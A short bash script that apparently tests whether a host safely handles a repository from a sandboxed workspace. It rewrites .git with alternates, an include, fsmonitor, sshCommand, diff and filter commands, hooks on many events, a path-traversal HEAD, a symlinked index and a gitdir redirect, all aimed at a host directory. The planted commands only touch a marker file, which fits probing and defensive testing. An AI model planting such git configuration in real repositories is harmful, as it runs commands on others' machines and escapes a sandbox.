#!/bin/bash
# Bends everything in .git that leads elsewhere, since somebody outside might open the repository: objects and references
# borrowed from the host, settings included from there, another working tree, programs to run for every occasion, replaced
# and grafted commits, repositories within the repository; at the end .git is only a pointer to a directory of the host's.
# Success: a directory of the host's is read or changed, or anything but the changed file is in the commit.
#   trap-git.sh DIRECTORY     a directory of the host's
cd /workspace || exit 0
echo 'Changed.' >>README.md
echo "$1/.git/objects" >.git/objects/info/alternates
printf '[include]\n\tpath = %s/canary.txt\n[core]\n\tworktree = %s\n\tfsmonitor = touch %s/run\n\tsshCommand = touch %s/run\n[diff]\n\texternal = touch %s/run\n[filter "x"]\n\tclean = touch %s/run\n\tsmudge = touch %s/run\n\trequired = true\n[uploadpack]\n\tpackObjectsHook = touch %s/run\n' \
  "$1" "$1" "$1" "$1" "$1" "$1" "$1" "$1" >>.git/config
echo '* filter=x diff=x merge=x' >.git/info/attributes
echo "$(git rev-parse HEAD 2>/dev/null) $(git rev-parse HEAD 2>/dev/null)" >.git/info/grafts
for hook in pre-commit post-checkout post-index-change pre-push update post-receive reference-transaction fsmonitor-watchman; do
  printf '#!/bin/sh\ntouch %s/run\n' "$1" >".git/hooks/$hook" && chmod +x ".git/hooks/$hook"
done
printf 'ref: ../../../../../..%s/canary.txt' "$1" >.git/HEAD
ln -sf "$1/canary.txt" .git/index
mkdir -p inner/objects inner/refs vendor/.git && printf 'ref: refs/heads/main' >inner/HEAD && printf '[core]\n\tfsmonitor = touch %s/run\n' "$1" >inner/config
printf 'gitdir: %s\n' "$1" >vendor/.git/config && : >vendor/file
mv .git /tmp/bent.git && printf 'gitdir: %s\n' "$1" >.git
rm -r inner
exit 0
